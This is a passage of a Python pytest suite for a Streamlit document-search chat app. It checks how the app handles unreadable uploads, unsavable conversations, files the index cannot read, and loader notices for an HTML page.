    context = next(e for e in assistant.expander if e.label == "Open in context")
    cited = next(b for b in bodies(context) if "⟵ cited" in b)
    assert cited.count(":orange-background[") == 2


@pytest.mark.parametrize(("name", "data"), [
    ("feed.jsonl", b'{"title": "Llamas", "text": "Llamas of Bolivia."}\n{not json\n'),
    ("notes.txt", bytes(range(256)) * 40),
])
def test_an_unreadable_upload_is_refused_never_saved_and_leaves_the_index_fresh(app_engine,
                                                                                name, data):
    """It had been shown as added, then skipped, and the sidebar said Stale for good."""
    at = run_app()
    at.sidebar.file_uploader[0].set_value((name, data, "text/plain")).run()
    assert_clean(at)
    refused = errors(at.sidebar)
    assert len(refused) == 1 and refused[0].startswith(f"{name}: "), refused
    assert not any(f"{name}: added" in plain(s.value) for s in at.sidebar.success)
    assert not (app_engine.settings.source_dir / name).exists()
    assert any("Fresh" in s.value for s in at.sidebar.success)
    assert not at.sidebar.warning


def test_a_conversation_that_cannot_be_saved_still_shows_its_answer(app_engine, monkeypatch,
                                                                     tmp_path):
    import numpy as np

    fake_ask(monkeypatch, lambda engine, q: Answer(q, "Chancay.", False, [], [], query=q,
                                                   support=np.array([0.5, 0.7])))
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert_clean(at)
    assert not errors(at) and at.chat_message[1].markdown[0].value == "Chancay\\."
    assert "c" not in at.query_params          # nothing saved, so no id to reload it by


def test_a_file_the_index_cannot_read_is_listed_with_its_reason(app_engine):
    """It had stayed Stale for good; now it is listed, and the index is fresh."""
    (app_engine.settings.source_dir / "scan.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(40))
    at = run_app()
    assert any("Stale: 1 added" in w.value for w in at.sidebar.warning)
    button(at.sidebar, "Update index").click().run()
    assert_clean(at)
    assert any(plain(w.value).startswith("not indexed: scan.txt: ") for w in at.sidebar.warning)
    at.run()                                          # the next page run
    assert any("Fresh" in s.value for s in at.sidebar.success)
    listed = next(e for e in at.sidebar.expander if e.label.startswith("Not indexed"))
    assert listed.label == "Not indexed: 1 file"
    assert plain(listed.markdown[0].value).startswith("scan.txt: ")


def test_an_update_shows_the_loaders_notices(app_engine):
    (app_engine.settings.source_dir / "menu.html").write_text(
        "<html><body><ul><li>Harbor news</li><li>Ship arrivals</li></ul></body></html>")
    at = run_app()
    button(at.sidebar, "Update index").click().run()
    assert_clean(at)
    assert any(plain(i.value).startswith("menu.html: no main article text")
               for i in at.sidebar.info)
